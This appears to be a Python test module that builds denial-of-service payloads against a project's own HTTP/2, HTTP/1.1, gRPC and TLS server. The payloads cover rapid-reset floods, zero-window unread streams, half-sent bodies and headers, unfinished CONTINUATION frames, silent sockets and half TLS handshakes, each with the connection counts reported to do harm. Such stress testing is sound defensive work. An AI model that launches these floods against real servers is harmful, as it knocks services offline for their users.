"""The attacks of strangers: what each of them sends. attacker.py sends it, siege.py looks at the engine meanwhile.

An attack is written down once, with two sizes: the one that was seen to hurt (`make abuse`), and the smallest one that still shows the fault
(the tests). No attacker has the token.
"""

import dataclasses
import ssl

from http2 import CONTINUATION, HEADERS, PREFACE, DATA, field, frame, head, headers, kept, kept_field, ping, reset, settings, streams

KIB = 1 << 10
STREAMS = 256  # streams_max: more are refused by the protocol itself.
PIPELINED = 64  # pipeline_max: more are not read.
UNKNOWN_HOOK = "/hooks/nobody-listens-here"
PUBLIC = ("/openapi.json", "/api/help", "/docs/steps.md")  # Given to everybody, together with the files of the web application.
HEALTH = "/grpc.health.v1.Health/Check"


@dataclasses.dataclass(frozen=True)
class Attack:
    """`plan` makes the parts that one connection sends: (bytes, how much of the connection's window they take)."""
    name: str
    what: str
    plan: callable
    connections: int  # As reported,
    fewer: int  # and in tests.
    protocol: str = "http"  # Or grpc, tls.
    reads: bool = False  # The attacker reads what comes, so it gets more of the window.
    fresh: bool = False  # A connection that has sent its parts, and was heard, makes room for another one.
    processes: int = 1
    receive_bytes: int = 0  # Room for answers in the attacker's kernel; 0: as usual.
    limits: tuple = ()  # Of the engine in tests: shorter time-outs, to see what they do.
    holds: float = 1.0  # Seconds that a test looks at the engine when the attack is at its heaviest.


def plain(text):
    return [(text, 0)]


# ---- answers that nobody reads ----


def unread_streams(paths, count=250, **fields):
    """Requests whose answers may not be sent: the client's windows have no room for a byte."""
    text = PREFACE + settings(initial_window=0)
    return plain(text + b"".join(headers(stream, head("GET", paths[i % len(paths)], **fields), ends=True)
                                 for i, stream in enumerate(streams(count))))


def request(method, path, *lines):
    return "\r\n".join((f"{method} {path} HTTP/1.1", "Host: 127.0.0.1", *lines, "", "")).encode()


def unread_pipeline(paths, count=PIPELINED):
    return plain(b"".join(request("GET", paths[i % len(paths)]) for i in range(count)))


# ---- halves ----


def half_bodies(_paths, size=16 * KIB):
    """Bodies without their last byte, as long as bodies may be that go into a request's own memory."""
    parts = [(PREFACE + settings(), 0)]
    for stream in streams(STREAMS):
        begin = headers(stream, head("POST", UNKNOWN_HOOK, content_type="application/json", content_length=str(size)))
        parts.append((begin + frame(DATA, 0, stream, b" " * (size - 1)), size - 1))
    return parts


def heads_alone(_paths):
    """Heads of 12 KiB that cost a few bytes each, of requests that the gate refuses and whose bodies do not come."""
    big = kept_field("x-large", "x" * 4000)
    text = PREFACE + settings()
    for stream in streams(STREAMS):
        path = "/v1/instances" if stream % 4 == 1 else UNKNOWN_HOOK
        block = head("POST", path, content_length="100") + (big if stream == 1 else kept()) + kept() + kept()
        text += headers(stream, block)
    return plain(text)


def heads_without_end(_paths):
    """One head per connection that goes on in a frame which does not come."""
    block = head("POST", UNKNOWN_HOOK) + field("x-large", "x" * 8000)
    return plain(PREFACE + settings() + frame(HEADERS, 0, 1, block) + frame(CONTINUATION, 0, 1, field("x-more", "y" * 7000)))


def half_calls(_paths):
    """Calls of a method that needs no token: their heads, and the first bytes of a message."""
    text = PREFACE + settings()
    for stream in streams(STREAMS):
        block = head("POST", HEALTH, te="trailers", content_type="application/grpc")
        text += headers(stream, block) + frame(DATA, 0, stream, b"\0\0\0")
    return plain(text)


def half_hook(_paths, size=120 * KIB):
    return plain(request("POST", UNKNOWN_HOOK, "Content-Type: application/json", f"Content-Length: {size}") + b" " * (size - 1))


# ---- connections that say nothing ----


def hello():
    """What a TLS client says first."""
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    out = ssl.MemoryBIO()
    client = context.wrap_bio(ssl.MemoryBIO(), out)
    try:
        client.do_handshake()
    except ssl.SSLWantReadError:
        pass
    return out.read()


def half_handshake(_paths):
    text = hello()
    return plain(text[:len(text) // 2])


# ---- resets ----


def rapid_reset(_paths, count=900):
    text = PREFACE + settings()
    for stream in streams(count):
        text += headers(stream, head("GET", "/v1/instances"), ends=True) + reset(stream)
    return plain(text + ping())


ATTACKS = {attack.name: attack for attack in (
    Attack("unread-streams", "HTTP/2: public documents, windows of 0", unread_streams, 100, 20),
    Attack("unread-pipelines", "HTTP/1.1: public documents, pipelined, unread", unread_pipeline, 2500, 700, receive_bytes=4096),
    Attack("half-bodies", "HTTP/2: bodies of 16 KiB without their end", half_bodies, 750, 160, reads=True),
    Attack("heads-alone", "HTTP/2: large heads, no bodies", heads_alone, 900, 240, limits=("body_timeout_ms=3000",),
           holds=4.0),
    Attack("heads-without-end", "HTTP/2: heads whose next frame does not come", heads_without_end, 900, 900),
    Attack("half-calls", "gRPC: half-begun calls of Health.Check", half_calls, 200, 200, protocol="grpc"),
    Attack("unread-refusals", "HTTP/2: 401 for each stream, windows of 0", lambda _: unread_streams(["/v1/instances"], STREAMS), 330, 330),
    Attack("unread-refusals-1", "HTTP/1.1: 401 again and again, unread", lambda _: unread_pipeline(["/v1/instances"], 6000), 330, 60,
           receive_bytes=2048),
    Attack("half-hooks", "HTTP/1.1: webhooks without their end", half_hook, 1300, 1300),
    Attack("silence", "sockets that never send a byte", lambda _: [], 10000, 10000),
    Attack("one-byte", "sockets that send one byte", lambda _: plain(b"G"), 10000, 10000),
    Attack("no-request", "HTTP/2: a beginning, and no request", lambda _: plain(PREFACE + settings()), 10000, 10000),
    Attack("idle", "HTTP/1.1: a request that is refused, then silence", lambda _: plain(request("GET", "/v1/instances")), 10000, 10000),
    Attack("half-handshakes", "TLS: half of the client's hello", half_handshake, 10000, 10000, protocol="tls"),
    Attack("no-handshakes", "TLS: the client's hello, and no more", lambda _: plain(hello()), 10000, 2000, protocol="tls"),
    Attack("resets", "HTTP/2: 900 resets on each fresh connection", rapid_reset, 800, 800, reads=True, fresh=True, processes=2),
)}
